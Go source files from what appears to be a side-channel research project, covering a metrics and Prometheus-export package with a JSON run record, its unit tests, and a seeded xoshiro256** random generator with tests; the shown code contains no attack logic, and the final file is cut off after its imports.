// servers in one test process share Default() without collisions.
func (r *Registry) register(m metric) metric {
	d := m.desc()
	r.mu.Lock()
	defer r.mu.Unlock()
	if old, ok := r.metrics[d.key]; ok {
		// GaugeFunc re-registration replaces the callback: a new server
		// instance must report its own queue depth, not a dead one's.
		if nf, ok := m.(*GaugeFunc); ok {
			if of, ok := old.(*GaugeFunc); ok {
				of.fn.Store(&nf.rawFn)
				return of
			}
		}
		return old
	}
	r.metrics[d.key] = m
	r.order = append(r.order, d.key)
	return m
}

// sorted returns metrics in registration order under the read lock.
func (r *Registry) sorted() []metric {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]metric, 0, len(r.order))
	for _, k := range r.order {
		out = append(out, r.metrics[k])
	}
	return out
}

// ---------------------------------------------------------------------
// Counter

// Counter is a monotonically increasing atomic int64.
type Counter struct {
	d desc
	v atomic.Int64
}

// NewCounter registers (or fetches) a counter on the registry.
func (r *Registry) NewCounter(name, help string, labels ...Label) *Counter {
	c := &Counter{d: desc{name: name, help: help, typ: TypeCounter,
		labels: labels, key: labelKey(name, labels)}}
	return r.register(c).(*Counter)
}

// NewCounter registers a counter on the default registry.
func NewCounter(name, help string, labels ...Label) *Counter {
	return Default().NewCounter(name, help, labels...)
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add increments by n (no-op when collection is disabled or n <= 0).
func (c *Counter) Add(n int64) {
	if n <= 0 || !enabled.Load() {
		return
	}
	c.v.Add(n)
}

// Value returns the current count.
func (c *Counter) Value() int64 { return c.v.Load() }

func (c *Counter) desc() *desc { return &c.d }

func (c *Counter) snapshot() MetricSnapshot {
	return MetricSnapshot{Name: c.d.name, Help: c.d.help, Type: c.d.typ,
		Labels: c.d.labels, Value: float64(c.v.Load())}
}

// ---------------------------------------------------------------------
// Gauge

// Gauge is a settable float64 (stored as math.Float64bits).
type Gauge struct {
	d desc
	v atomic.Uint64
}

// NewGauge registers (or fetches) a gauge on the registry.
func (r *Registry) NewGauge(name, help string, labels ...Label) *Gauge {
	g := &Gauge{d: desc{name: name, help: help, typ: TypeGauge,
		labels: labels, key: labelKey(name, labels)}}
	return r.register(g).(*Gauge)
}

// NewGauge registers a gauge on the default registry.
func NewGauge(name, help string, labels ...Label) *Gauge {
	return Default().NewGauge(name, help, labels...)
}

// Set stores v (no-op when collection is disabled).
func (g *Gauge) Set(v float64) {
	if !enabled.Load() {
		return
	}
	g.v.Store(math.Float64bits(v))
}

// Add adjusts the gauge by delta via CAS (no-op when disabled).
func (g *Gauge) Add(delta float64) {
	if !enabled.Load() {
		return
	}
	for {
		old := g.v.Load()
		nv := math.Float64bits(math.Float64frombits(old) + delta)
		if g.v.CompareAndSwap(old, nv) {
			return
		}
	}
}

// Value returns the current gauge value.
func (g *Gauge) Value() float64 { return math.Float64frombits(g.v.Load()) }

func (g *Gauge) desc() *desc { return &g.d }

func (g *Gauge) snapshot() MetricSnapshot {
	return MetricSnapshot{Name: g.d.name, Help: g.d.help, Type: g.d.typ,
		Labels: g.d.labels, Value: g.Value()}
}

// ---------------------------------------------------------------------
// GaugeFunc

// GaugeFunc samples a callback at render time — for values the owner
// already tracks (queue depth, live campaign count) where a mirrored
// gauge would drift.
type GaugeFunc struct {
	d     desc
	rawFn func() float64
	fn    atomic.Pointer[func() float64]
}

// NewGaugeFunc registers a callback-backed gauge. Re-registering the
// same name replaces the callback (latest owner wins).
func (r *Registry) NewGaugeFunc(name, help string, fn func() float64, labels ...Label) *GaugeFunc {
	g := &GaugeFunc{d: desc{name: name, help: help, typ: TypeGauge,
		labels: labels, key: labelKey(name, labels)}, rawFn: fn}
	g.fn.Store(&g.rawFn)
	return r.register(g).(*GaugeFunc)
}

// NewGaugeFunc registers a callback-backed gauge on the default registry.
func NewGaugeFunc(name, help string, fn func() float64, labels ...Label) *GaugeFunc {
	return Default().NewGaugeFunc(name, help, fn, labels...)
}

// Value samples the callback.
func (g *GaugeFunc) Value() float64 {
	if fp := g.fn.Load(); fp != nil && *fp != nil {
		return (*fp)()
	}
	return 0
}

func (g *GaugeFunc) desc() *desc { return &g.d }

func (g *GaugeFunc) snapshot() MetricSnapshot {
	return MetricSnapshot{Name: g.d.name, Help: g.d.help, Type: g.d.typ,
		Labels: g.d.labels, Value: g.Value()}
}

// ---------------------------------------------------------------------
// Histogram

// Histogram counts observations into fixed cumulative-le buckets, plus
// a running sum. Buckets are pinned at construction; observation is a
// binary search plus two atomic adds.
type Histogram struct {
	d       desc
	bounds  []float64 // upper bounds, ascending, +Inf implicit
	buckets []atomic.Int64
	count   atomic.Int64
	sum     atomic.Uint64 // float64 bits, CAS-accumulated
}

// DurationBuckets covers 1ms..~2min in roughly ×4 steps — wide enough
// for both a shard fold and a whole campaign phase.
var DurationBuckets = []float64{
	0.001, 0.005, 0.02, 0.1, 0.5, 2, 10, 30, 120,
}

// NewHistogram registers (or fetches) a histogram with the given
// ascending bucket upper bounds (+Inf is implicit).
func (r *Registry) NewHistogram(name, help string, bounds []float64, labels ...Label) *Histogram {
	for i := 1; i < len(bounds); i++ {
		if bounds[i] <= bounds[i-1] {
			panic(fmt.Sprintf("obs: histogram %q bounds not ascending", name))
		}
	}
	h := &Histogram{d: desc{name: name, help: help, typ: TypeHistogram,
		labels: labels, key: labelKey(name, labels)},
		bounds:  append([]float64(nil), bounds...),
		buckets: make([]atomic.Int64, len(bounds)+1)}
	return r.register(h).(*Histogram)
}

// NewHistogram registers a histogram on the default registry.
func NewHistogram(name, help string, bounds []float64, labels ...Label) *Histogram {
	return Default().NewHistogram(name, help, bounds, labels...)
}

// Observe records one sample (no-op when collection is disabled).
func (h *Histogram) Observe(v float64) {
	if !enabled.Load() {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v) // first bound >= v (le semantics)
	h.buckets[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sum.Load()
		nv := math.Float64bits(math.Float64frombits(old) + v)
		if h.sum.CompareAndSwap(old, nv) {
			return
		}
	}
}

// Count returns the number of observations.
func (h *Histogram) Count() int64 { return h.count.Load() }

// Sum returns the sum of observed values.
func (h *Histogram) Sum() float64 { return math.Float64frombits(h.sum.Load()) }

func (h *Histogram) desc() *desc { return &h.d }

func (h *Histogram) snapshot() MetricSnapshot {
	s := MetricSnapshot{Name: h.d.name, Help: h.d.help, Type: h.d.typ,
		Labels: h.d.labels, Count: h.count.Load(), Sum: h.Sum()}
	cum := int64(0)
	for i := range h.buckets {
		cum += h.buckets[i].Load()
		le := math.Inf(1)
		if i < len(h.bounds) {
			le = h.bounds[i]
		}
		s.Buckets = append(s.Buckets, BucketSnapshot{LE: le, Count: cum})
	}
	return s
}

// ---------------------------------------------------------------------
// Span

// Span times one phase and records its duration into a histogram on
// End. Start when the phase begins; End is idempotent-safe to defer.
type Span struct {
	h     *Histogram
	start time.Time
	done  bool
}

// StartSpan begins timing against h. A nil histogram yields an inert
// span, so call sites need no guards.
func StartSpan(h *Histogram) *Span {
	if h == nil || !enabled.Load() {
		return &Span{done: true}
	}
	return &Span{h: h, start: time.Now()}
}

// End records the elapsed seconds. Second and later calls are no-ops.
func (s *Span) End() {
	if s == nil || s.done {
		return
	}
	s.done = true
	s.h.Observe(time.Since(s.start).Seconds())
}
