package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"time"
)

// MetricSnapshot is one metric's point-in-time value, JSON-serializable
// for /metricsz and the flight record.
type MetricSnapshot struct {
	Name    string           `json:"name"`
	Help    string           `json:"help,omitempty"`
	Type    MetricType       `json:"type"`
	Labels  []Label          `json:"labels,omitempty"`
	Value   float64          `json:"value,omitempty"`
	Count   int64            `json:"count,omitempty"`
	Sum     float64          `json:"sum,omitempty"`
	Buckets []BucketSnapshot `json:"buckets,omitempty"`
}

// BucketSnapshot is one cumulative histogram bucket.
type BucketSnapshot struct {
	LE    float64 `json:"le"`
	Count int64   `json:"count"`
}

// MarshalJSON emits +Inf as the string "+Inf" (JSON has no infinity).
func (b BucketSnapshot) MarshalJSON() ([]byte, error) {
	le := "\"+Inf\""
	if !math.IsInf(b.LE, 1) {
		le = strconv.FormatFloat(b.LE, 'g', -1, 64)
	}
	return []byte(fmt.Sprintf(`{"le":%s,"count":%d}`, le, b.Count)), nil
}

// UnmarshalJSON accepts both the numeric and the "+Inf" encodings.
func (b *BucketSnapshot) UnmarshalJSON(data []byte) error {
	var raw struct {
		LE    json.RawMessage `json:"le"`
		Count int64           `json:"count"`
	}
	if err := json.Unmarshal(data, &raw); err != nil {
		return err
	}
	b.Count = raw.Count
	s := strings.Trim(string(raw.LE), `"`)
	if s == "+Inf" {
		b.LE = math.Inf(1)
		return nil
	}
	v, err := strconv.ParseFloat(s, 64)
	if err != nil {
		return err
	}
	b.LE = v
	return nil
}

// Snapshot returns every metric's current value in registration order.
func (r *Registry) Snapshot() []MetricSnapshot {
	ms := r.sorted()
	out := make([]MetricSnapshot, 0, len(ms))
	for _, m := range ms {
		out = append(out, m.snapshot())
	}
	return out
}

// WritePrometheus renders the registry in the Prometheus text
// exposition format (version 0.0.4). Families sharing a name emit one
// HELP/TYPE header, and histograms expand to _bucket/_sum/_count.
func (r *Registry) WritePrometheus(w io.Writer) error {
	var b strings.Builder
	seen := make(map[string]bool)
	for _, m := range r.sorted() {
		s := m.snapshot()
		if !seen[s.Name] {
			seen[s.Name] = true
			if s.Help != "" {
				fmt.Fprintf(&b, "# HELP %s %s\n", s.Name, escapeHelp(s.Help))
			}
			fmt.Fprintf(&b, "# TYPE %s %s\n", s.Name, s.Type)
		}
		switch s.Type {
		case TypeHistogram:
			for _, bk := range s.Buckets {
				le := "+Inf"
				if !math.IsInf(bk.LE, 1) {
					le = formatFloat(bk.LE)
				}
				fmt.Fprintf(&b, "%s_bucket%s %d\n", s.Name,
					renderLabels(s.Labels, Label{Name: "le", Value: le}), bk.Count)
			}
			fmt.Fprintf(&b, "%s_sum%s %s\n", s.Name, renderLabels(s.Labels), formatFloat(s.Sum))
			fmt.Fprintf(&b, "%s_count%s %d\n", s.Name, renderLabels(s.Labels), s.Count)
		default:
			fmt.Fprintf(&b, "%s%s %s\n", s.Name, renderLabels(s.Labels), formatFloat(s.Value))
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}

func formatFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

func escapeHelp(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

func escapeLabel(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `"`, `\"`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// renderLabels renders {k="v",...} or "" for an empty set. Extra labels
// (the histogram le) are appended after the metric's own.
func renderLabels(labels []Label, extra ...Label) string {
	all := append(append([]Label(nil), labels...), extra...)
	if len(all) == 0 {
		return ""
	}
	parts := make([]string, len(all))
	for i, l := range all {
		parts[i] = fmt.Sprintf(`%s="%s"`, l.Name, escapeLabel(l.Value))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// ---------------------------------------------------------------------
// Flight record

// FlightRecord is the end-of-run observability artifact: one JSON file
// with build identity, wall-clock, and the full metric snapshot. The
// attack cmd writes it under -obs-json; the campaign runner drops one
// next to result.json. It is diagnostic output only — deliberately
// excluded from the byte-identity artifact comparisons, since timings
// differ run to run.
type FlightRecord struct {
	Command    string           `json:"command"`
	RecordedAt time.Time        `json:"recorded_at"`
	UptimeSec  float64          `json:"uptime_seconds"`
	GoVersion  string           `json:"go_version"`
	Revision   string           `json:"revision,omitempty"`
	Metrics    []MetricSnapshot `json:"metrics"`
}

var processStart = time.Now()

// Uptime returns seconds since process start.
func Uptime() float64 { return time.Since(processStart).Seconds() }

// BuildRevision returns the VCS revision baked into the binary, or "".
func BuildRevision() string {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return ""
	}
	for _, s := range bi.Settings {
		if s.Key == "vcs.revision" {
			return s.Value
		}
	}
	return ""
}

// NewFlightRecord snapshots the registry into a flight record for cmd.
func (r *Registry) NewFlightRecord(cmd string) FlightRecord {
	return FlightRecord{
		Command:    cmd,
		RecordedAt: time.Now().UTC(),
		UptimeSec:  Uptime(),
		GoVersion:  runtime.Version(),
		Revision:   BuildRevision(),
		Metrics:    r.Snapshot(),
	}
}

// WriteFlightRecord atomically writes the registry snapshot as indented
// JSON at path (tmp + rename, so readers never see a torn file).
func (r *Registry) WriteFlightRecord(cmd, path string) error {
	data, err := json.MarshalIndent(r.NewFlightRecord(cmd), "", "  ")
	if err != nil {
		return err
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, append(data, '\n'), 0o644); err != nil {
		return err
	}
	if err := os.Rename(tmp, path); err != nil {
		os.Remove(tmp)
		return err
	}
	return nil
}

// FlightRecordPath places the flight record next to a sibling artifact
// (e.g. result.json -> obs.json in the same directory).
func FlightRecordPath(sibling, name string) string {
	return filepath.Join(filepath.Dir(sibling), name)
}
