package obs

import (
	"encoding/json"
	"math"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// A fresh registry per test keeps assertions independent of the
// package-level taps registered on Default() by other packages.

func TestCounter(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("test_total", "a counter")
	c.Inc()
	c.Add(4)
	c.Add(-3) // counters are monotonic: negative adds are dropped
	c.Add(0)
	if got := c.Value(); got != 5 {
		t.Fatalf("counter = %d, want 5", got)
	}
}

func TestGauge(t *testing.T) {
	r := NewRegistry()
	g := r.NewGauge("test_gauge", "a gauge")
	g.Set(7.5)
	g.Add(-2.5)
	if got := g.Value(); got != 5 {
		t.Fatalf("gauge = %v, want 5", got)
	}
}

func TestGaugeFuncReplacedOnReregister(t *testing.T) {
	r := NewRegistry()
	g1 := r.NewGaugeFunc("test_depth", "depth", func() float64 { return 1 })
	g2 := r.NewGaugeFunc("test_depth", "depth", func() float64 { return 2 })
	if g1 != g2 {
		t.Fatal("re-registration should return the same instance")
	}
	// Latest owner wins: the dead server's callback must not survive.
	if got := g1.Value(); got != 2 {
		t.Fatalf("gauge func = %v, want 2 (replaced callback)", got)
	}
}

func TestRegistryGetOrCreate(t *testing.T) {
	r := NewRegistry()
	a := r.NewCounter("dup_total", "dup")
	b := r.NewCounter("dup_total", "dup")
	if a != b {
		t.Fatal("same name must return the same counter")
	}
	// Distinct label sets are distinct metrics, in either order.
	l1 := r.NewCounter("lbl_total", "l", Label{"a", "1"}, Label{"b", "2"})
	l2 := r.NewCounter("lbl_total", "l", Label{"b", "2"}, Label{"a", "1"})
	l3 := r.NewCounter("lbl_total", "l", Label{"a", "other"})
	if l1 != l2 {
		t.Fatal("label order must not matter for identity")
	}
	if l1 == l3 {
		t.Fatal("different label values must be different metrics")
	}
}

func TestHistogramBuckets(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("test_seconds", "latency", []float64{0.1, 1, 10})
	for _, v := range []float64{0.05, 0.1, 0.5, 1.0, 5, 100} {
		h.Observe(v)
	}
	s := h.snapshot()
	if h.Count() != 6 {
		t.Fatalf("count = %d, want 6", h.Count())
	}
	if want := 0.05 + 0.1 + 0.5 + 1 + 5 + 100; math.Abs(h.Sum()-want) > 1e-12 {
		t.Fatalf("sum = %v, want %v", h.Sum(), want)
	}
	// le semantics: a value equal to a bound lands in that bound's
	// bucket; buckets render cumulatively.
	wantCum := []int64{2, 4, 5, 6}
	if len(s.Buckets) != 4 {
		t.Fatalf("buckets = %d, want 4 (3 bounds + Inf)", len(s.Buckets))
	}
	for i, bk := range s.Buckets {
		if bk.Count != wantCum[i] {
			t.Fatalf("bucket[%d] cum = %d, want %d", i, bk.Count, wantCum[i])
		}
	}
	if !math.IsInf(s.Buckets[3].LE, 1) {
		t.Fatal("last bucket must be +Inf")
	}
}

func TestHistogramBadBoundsPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("non-ascending bounds should panic at registration")
		}
	}()
	NewRegistry().NewHistogram("bad_seconds", "bad", []float64{1, 1})
}

func TestPrometheusRendering(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("falcon_test_total", "things done", Label{"kind", "a\"b\\c"})
	c.Add(3)
	g := r.NewGauge("falcon_depth", "queue depth")
	g.Set(2)
	h := r.NewHistogram("falcon_rtt_seconds", "round trips", []float64{0.5})
	h.Observe(0.25)
	h.Observe(2)

	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# HELP falcon_test_total things done\n",
		"# TYPE falcon_test_total counter\n",
		`falcon_test_total{kind="a\"b\\c"} 3` + "\n",
		"# TYPE falcon_depth gauge\nfalcon_depth 2\n",
		"# TYPE falcon_rtt_seconds histogram\n",
		`falcon_rtt_seconds_bucket{le="0.5"} 1` + "\n",
		`falcon_rtt_seconds_bucket{le="+Inf"} 2` + "\n",
		"falcon_rtt_seconds_sum 2.25\n",
		"falcon_rtt_seconds_count 2\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("rendering missing %q in:\n%s", want, out)
		}
	}
	// One TYPE header per family even with multiple label sets.
	r.NewCounter("falcon_test_total", "things done", Label{"kind", "other"}).Inc()
	b.Reset()
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(b.String(), "# TYPE falcon_test_total counter"); got != 1 {
		t.Fatalf("TYPE header rendered %d times, want once", got)
	}
}

func TestSnapshotJSONRoundtrip(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("rt_seconds", "rt", []float64{1})
	h.Observe(0.5)
	h.Observe(3)
	data, err := json.Marshal(r.Snapshot())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), "Inf,") {
		t.Fatalf("bare Inf leaked into JSON: %s", data)
	}
	var back []MetricSnapshot
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if len(back) != 1 || len(back[0].Buckets) != 2 {
		t.Fatalf("roundtrip shape wrong: %+v", back)
	}
	if !math.IsInf(back[0].Buckets[1].LE, 1) {
		t.Fatal("+Inf bucket lost in roundtrip")
	}
	if back[0].Buckets[1].Count != 2 {
		t.Fatalf("cumulative inf bucket = %d, want 2", back[0].Buckets[1].Count)
	}
}

func TestDisabledIsNoOp(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("off_total", "off")
	g := r.NewGauge("off_gauge", "off")
	h := r.NewHistogram("off_seconds", "off", []float64{1})
	SetEnabled(false)
	defer SetEnabled(true)
	c.Inc()
	g.Set(9)
	h.Observe(0.5)
	StartSpan(h).End()
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 {
		t.Fatalf("disabled taps mutated state: c=%d g=%v h=%d",
			c.Value(), g.Value(), h.Count())
	}
}

func TestSpan(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("span_seconds", "span", DurationBuckets)
	sp := StartSpan(h)
	time.Sleep(time.Millisecond)
	sp.End()
	sp.End() // idempotent
	if h.Count() != 1 {
		t.Fatalf("span recorded %d observations, want 1", h.Count())
	}
	if h.Sum() <= 0 {
		t.Fatalf("span sum = %v, want > 0", h.Sum())
	}
	StartSpan(nil).End() // nil histogram must be inert, not panic
}

func TestConcurrentTaps(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("conc_total", "c")
	g := r.NewGauge("conc_gauge", "g")
	h := r.NewHistogram("conc_seconds", "h", DurationBuckets)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				c.Inc()
				g.Add(1)
				h.Observe(float64(i%7) / 100)
				if i%100 == 0 {
					var b strings.Builder
					_ = r.WritePrometheus(&b) // render under contention
				}
			}
		}(w)
	}
	wg.Wait()
	if c.Value() != 4000 || h.Count() != 4000 {
		t.Fatalf("lost updates: counter=%d hist=%d, want 4000", c.Value(), h.Count())
	}
	if g.Value() != 4000 {
		t.Fatalf("gauge CAS lost updates: %v, want 4000", g.Value())
	}
}

func TestFlightRecord(t *testing.T) {
	r := NewRegistry()
	r.NewCounter("fr_total", "fr").Add(2)
	dir := t.TempDir()
	path := FlightRecordPath(dir+"/result.json", "obs.json")
	if err := r.WriteFlightRecord("attack", path); err != nil {
		t.Fatal(err)
	}
	var fr FlightRecord
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &fr); err != nil {
		t.Fatal(err)
	}
	if fr.Command != "attack" || fr.GoVersion == "" || len(fr.Metrics) != 1 {
		t.Fatalf("flight record incomplete: %+v", fr)
	}
	if fr.Metrics[0].Value != 2 {
		t.Fatalf("metric value = %v, want 2", fr.Metrics[0].Value)
	}
}

func TestLogger(t *testing.T) {
	var b strings.Builder
	l := NewLoggerTo("campaignd", &b)
	l.now = func() time.Time { return time.Date(2026, 8, 8, 12, 0, 0, 0, time.UTC) }
	l.Debugf("hidden at info")
	l.With("campaign", "c1").Infof("listening on %s", "127.0.0.1:9")
	out := b.String()
	if strings.Contains(out, "hidden") {
		t.Fatal("debug line leaked at info level")
	}
	want := "2026/08/08 12:00:00 INFO campaignd[campaign=c1]: listening on 127.0.0.1:9\n"
	if out != want {
		t.Fatalf("log line = %q, want %q", out, want)
	}
	// Context precedes the message: scripts that sed-extract the tail of
	// "listening on ..." must keep working with fields attached.
	if !strings.HasSuffix(strings.TrimSuffix(out, "\n"), "listening on 127.0.0.1:9") {
		t.Fatal("message must terminate the line")
	}

	b.Reset()
	l.SetLevel(LevelWarn)
	l.Infof("quiet drops info")
	l.Warnf("kept")
	if strings.Contains(b.String(), "quiet drops info") || !strings.Contains(b.String(), "WARN campaignd: kept") {
		t.Fatalf("level filtering wrong: %q", b.String())
	}

	b.Reset()
	l.SetLevel(LevelDebug)
	l.Debugf("verbose shows debug")
	if !strings.Contains(b.String(), "DEBUG campaignd: verbose shows debug") {
		t.Fatalf("debug line missing: %q", b.String())
	}
}

func TestLevelFromFlags(t *testing.T) {
	cases := []struct {
		v, q bool
		want Level
	}{{false, false, LevelInfo}, {true, false, LevelDebug},
		{false, true, LevelWarn}, {true, true, LevelWarn}}
	for _, c := range cases {
		if got := LevelFromFlags(c.v, c.q); got != c.want {
			t.Errorf("LevelFromFlags(%v,%v) = %v, want %v", c.v, c.q, got, c.want)
		}
	}
}
