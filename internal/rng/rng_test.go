package rng

import (
	"math"
	"testing"
)

func TestDeterminism(t *testing.T) {
	a := New(42)
	b := New(42)
	for i := 0; i < 1000; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatalf("divergence at step %d", i)
		}
	}
	c := New(43)
	same := 0
	a = New(42)
	for i := 0; i < 100; i++ {
		if a.Uint64() == c.Uint64() {
			same++
		}
	}
	if same > 2 {
		t.Fatalf("different seeds produced %d identical outputs", same)
	}
}

func TestIntnRange(t *testing.T) {
	x := New(1)
	counts := make([]int, 7)
	for i := 0; i < 70000; i++ {
		v := x.Intn(7)
		if v < 0 || v >= 7 {
			t.Fatalf("Intn out of range: %d", v)
		}
		counts[v]++
	}
	for v, c := range counts {
		if c < 9000 || c > 11000 {
			t.Errorf("Intn(7) bucket %d has count %d, expected ~10000", v, c)
		}
	}
}

func TestIntnPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Intn(0) did not panic")
		}
	}()
	New(1).Intn(0)
}

func TestFloat64Range(t *testing.T) {
	x := New(2)
	for i := 0; i < 100000; i++ {
		v := x.Float64()
		if v < 0 || v >= 1 {
			t.Fatalf("Float64 out of range: %v", v)
		}
	}
}

func TestNormFloat64Moments(t *testing.T) {
	x := New(3)
	n := 200000
	var sum, sumSq float64
	for i := 0; i < n; i++ {
		v := x.NormFloat64()
		sum += v
		sumSq += v * v
	}
	mean := sum / float64(n)
	variance := sumSq/float64(n) - mean*mean
	if math.Abs(mean) > 0.01 {
		t.Errorf("mean = %v", mean)
	}
	if math.Abs(variance-1) > 0.02 {
		t.Errorf("variance = %v", variance)
	}
}

func TestGaussianMoments(t *testing.T) {
	x := New(4)
	n := 100000
	var sum, sumSq float64
	for i := 0; i < n; i++ {
		v := x.Gaussian(5, 2)
		sum += v
		sumSq += v * v
	}
	mean := sum / float64(n)
	variance := sumSq/float64(n) - mean*mean
	if math.Abs(mean-5) > 0.05 {
		t.Errorf("mean = %v", mean)
	}
	if math.Abs(variance-4) > 0.15 {
		t.Errorf("variance = %v", variance)
	}
}

func TestBytes(t *testing.T) {
	x := New(5)
	for _, n := range []int{0, 1, 7, 8, 9, 33} {
		b := make([]byte, n)
		x.Bytes(b)
		if n >= 8 {
			allZero := true
			for _, v := range b {
				if v != 0 {
					allZero = false
					break
				}
			}
			if allZero {
				t.Errorf("len %d: all zero bytes", n)
			}
		}
	}
	// Determinism of Bytes.
	a, b := New(6), New(6)
	ba := make([]byte, 100)
	bb := make([]byte, 100)
	a.Bytes(ba)
	b.Bytes(bb)
	for i := range ba {
		if ba[i] != bb[i] {
			t.Fatal("Bytes not deterministic")
		}
	}
}

func TestBit(t *testing.T) {
	x := New(7)
	ones := 0
	for i := 0; i < 10000; i++ {
		b := x.Bit()
		if b != 0 && b != 1 {
			t.Fatalf("Bit = %d", b)
		}
		ones += b
	}
	if ones < 4700 || ones > 5300 {
		t.Errorf("ones = %d of 10000", ones)
	}
}

func TestNewEntropyDiffers(t *testing.T) {
	a := NewEntropy()
	b := NewEntropy()
	same := 0
	for i := 0; i < 16; i++ {
		if a.Uint64() == b.Uint64() {
			same++
		}
	}
	if same == 16 {
		t.Fatal("two entropy-seeded generators produced identical streams")
	}
}
