// Package rng provides the deterministic pseudo-random generator used by
// key generation, the signing sampler and the side-channel experiment
// harness.
//
// Reproducibility is a first-class requirement for the experiments (every
// figure must regenerate identically from its seed), so the package uses a
// fixed, well-understood generator — xoshiro256** seeded through splitmix64 —
// rather than a platform-dependent source. Cryptographic call sites
// (key generation, signing salts) can instead seed from crypto/rand via
// NewEntropy.
package rng

import (
	cryptorand "crypto/rand"
	"encoding/binary"
	"math"
	"math/bits"
)

// Xoshiro is a xoshiro256** generator. The zero value is not usable; build
// one with New or NewEntropy.
type Xoshiro struct {
	s         [4]uint64
	spare     float64
	haveSpare bool
}

// New returns a generator deterministically seeded from seed via splitmix64.
func New(seed uint64) *Xoshiro {
	var x Xoshiro
	sm := seed
	next := func() uint64 {
		sm += 0x9E3779B97F4A7C15
		z := sm
		z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
		z = (z ^ (z >> 27)) * 0x94D049BB133111EB
		return z ^ (z >> 31)
	}
	for i := range x.s {
		x.s[i] = next()
	}
	// Avoid the all-zero state (splitmix64 never produces it from four
	// consecutive outputs, but be defensive).
	if x.s[0]|x.s[1]|x.s[2]|x.s[3] == 0 {
		x.s[0] = 1
	}
	return &x
}

// DeriveSeed mixes a base seed with a stream index into an independent
// sub-seed (two splitmix64 finalization rounds over the pair). Parallel
// acquisition uses it to give every observation its own substream, so the
// output is a pure function of (seed, stream) regardless of how work is
// partitioned across workers.
func DeriveSeed(seed, stream uint64) uint64 {
	mix := func(z uint64) uint64 {
		z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
		z = (z ^ (z >> 27)) * 0x94D049BB133111EB
		return z ^ (z >> 31)
	}
	z := mix(seed + 0x9E3779B97F4A7C15)
	return mix(z ^ (stream+1)*0xD1B54A32D192ED03)
}

// NewEntropy returns a generator seeded from the operating system's
// cryptographic entropy source.
func NewEntropy() *Xoshiro {
	var b [8]byte
	if _, err := cryptorand.Read(b[:]); err != nil {
		panic("rng: entropy source unavailable: " + err.Error())
	}
	return New(binary.LittleEndian.Uint64(b[:]))
}

// Uint64 returns the next 64 uniformly random bits.
func (x *Xoshiro) Uint64() uint64 {
	r := bits.RotateLeft64(x.s[1]*5, 7) * 9
	t := x.s[1] << 17
	x.s[2] ^= x.s[0]
	x.s[3] ^= x.s[1]
	x.s[1] ^= x.s[2]
	x.s[0] ^= x.s[3]
	x.s[2] ^= t
	x.s[3] = bits.RotateLeft64(x.s[3], 45)
	return r
}

// Intn returns a uniformly random integer in [0, n). n must be positive.
func (x *Xoshiro) Intn(n int) int {
	if n <= 0 {
		panic("rng: Intn with non-positive n")
	}
	// Lemire's nearly-divisionless method with rejection.
	bound := uint64(n)
	for {
		v := x.Uint64()
		hi, lo := bits.Mul64(v, bound)
		if lo >= bound || lo >= -bound%bound {
			return int(hi)
		}
	}
}

// Float64 returns a uniform value in [0, 1) with 53 random bits.
func (x *Xoshiro) Float64() float64 {
	return float64(x.Uint64()>>11) / (1 << 53)
}

// NormFloat64 returns a standard normal variate (Box–Muller; the spare
// value is cached).
func (x *Xoshiro) NormFloat64() float64 {
	if x.haveSpare {
		x.haveSpare = false
		return x.spare
	}
	for {
		u := x.Float64()
		if u == 0 {
			continue
		}
		v := x.Float64()
		r := math.Sqrt(-2 * math.Log(u))
		a := 2 * math.Pi * v
		x.spare = r * math.Sin(a)
		x.haveSpare = true
		return r * math.Cos(a)
	}
}

// Gaussian returns a normal variate with the given mean and standard
// deviation.
func (x *Xoshiro) Gaussian(mu, sigma float64) float64 {
	return mu + sigma*x.NormFloat64()
}

// Bytes fills b with random bytes.
func (x *Xoshiro) Bytes(b []byte) {
	i := 0
	for ; i+8 <= len(b); i += 8 {
		binary.LittleEndian.PutUint64(b[i:], x.Uint64())
	}
	if i < len(b) {
		var t [8]byte
		binary.LittleEndian.PutUint64(t[:], x.Uint64())
		copy(b[i:], t[:len(b)-i])
	}
}

// Bit returns a single uniformly random bit.
func (x *Xoshiro) Bit() int { return int(x.Uint64() >> 63) }
