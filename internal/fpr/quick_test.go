package fpr

import (
	"math"
	"math/rand"
	"reflect"
	"testing"
